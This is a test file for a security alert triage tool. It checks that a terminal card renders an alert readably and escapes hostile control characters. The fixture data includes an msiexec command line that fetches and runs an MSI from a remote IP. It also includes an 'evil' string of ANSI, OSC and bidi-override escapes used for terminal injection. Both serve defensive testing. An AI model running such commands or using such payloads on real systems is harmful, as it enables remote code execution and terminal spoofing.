import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderTerminalCard, termSafe } from "../lib/deliver/terminal-card.js";
import { seedTriageResult, setField, withEvents } from "./helpers/triage-fixture.js";

const OUR_ANSI = /\u001b\[(?:0|1|2|31|32|33)m/g;

describe("terminal triage card", () => {
  it("shows the seed alert readably", () => {
    const out = renderTerminalCard(seedTriageResult());
    expect(out).toContain("== [LOW] Potential Remote File Execution via MSIEXEC ==");
    expect(out).toContain("host     WIN-FIN-07\n");
    expect(out).toContain("user     CORP\\jdoe\n");
    expect(out).toContain("time     2026-11-20T09:12:00.000Z -> 2026-11-20T09:12:06.500Z\n");
    expect(out).toContain("verdict  MALICIOUS (score 90)\n");
    expect(out).toContain("att&ck   TA0005 Defense Evasion / T1218.007 System Binary Proxy Execution: Msiexec\n");
    expect(out).toContain([
      "Sequence (3 events)",
      "  1.  09:12:00.000Z  process start  msiexec.exe (pid 6120)",
      "        command line: msiexec.exe /V /q /i http://185.220.101.45/update/KB5034441.msi",
      "        parent: OUTLOOK.EXE  signer: Microsoft Windows (trusted)",
      "  2.  09:12:01.800Z  network connection_attempted  msiexec.exe (pid 6120)",
      "        to 185.220.101.45:80 (egress)  verdict: MALICIOUS (score 90)",
      "  3.  09:12:06.500Z  process start  KB5034441.exe (pid 7344)",
      "        command line: C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe --silent",
      "        parent: msiexec.exe  signer: none (unsigned)",
    ].join("\n"));
    expect(out).toContain("    abuseipdb: abuse confidence 90% (cached)\n");
    expect(out).toContain("First investigation steps (5 of 6)\n  - Review the process start event");
    expect(out).toContain("\n    - Query the process tree: query #1 (Child processes of msiexec)\n");
    expect(out).toContain('  #1 Child processes of msiexec (Timeline KQL)\n     process.parent.entity_id : "attack-msiexec" and host.name : "WIN-FIN-07"\n');
    expect(out).not.toContain("\u001b");
  });

  it("never lets event data drive the terminal: ESC, C1, bidi overrides and line breaks are shown escaped", () => {
    const evil = "x\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202Eexe.txt\r\nnext";
    const r = withEvents(seedTriageResult({ summary: evil }), (e) => {
      for (const f of ["process.command_line", "host.name", "user.name", "process.code_signature.subject_name", "process.parent.name", "event.action", "@timestamp"]) setField(e, f, evil);
    });
    for (const color of [false, true]) {
      const out = renderTerminalCard({ ...r, alert: { ...r.alert, rule: { ...r.alert.rule, name: evil } } }, { color });
      expect(out.replace(OUR_ANSI, "")).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
      expect(out).toContain("x\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202eexe.txt\\r\\nnext");
    }
    expect(renderTerminalCard(seedTriageResult(), { color: true })).toContain("\u001b[31mMALICIOUS\u001b[0m");
  });

  it("cuts huge values", () => {
    const r = withEvents(seedTriageResult(), (e) => setField(e, "process.command_line", "A".repeat(3_000_000)));
    const out = renderTerminalCard(r, { valueChars: 100 });
    expect(out).toContain(`command line: ${"A".repeat(100)}…\n`);
    expect(out.length).toBeLessThan(20_000);
  });

  it("escapes every control character of any string (property)", () => {
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 200 }), fc.integer({ min: 0, max: 300 }), (s, max) => {
      const out = termSafe(s, max);
      expect(out).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
      expect(out).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
    }), { numRuns: 300 });
  });
});
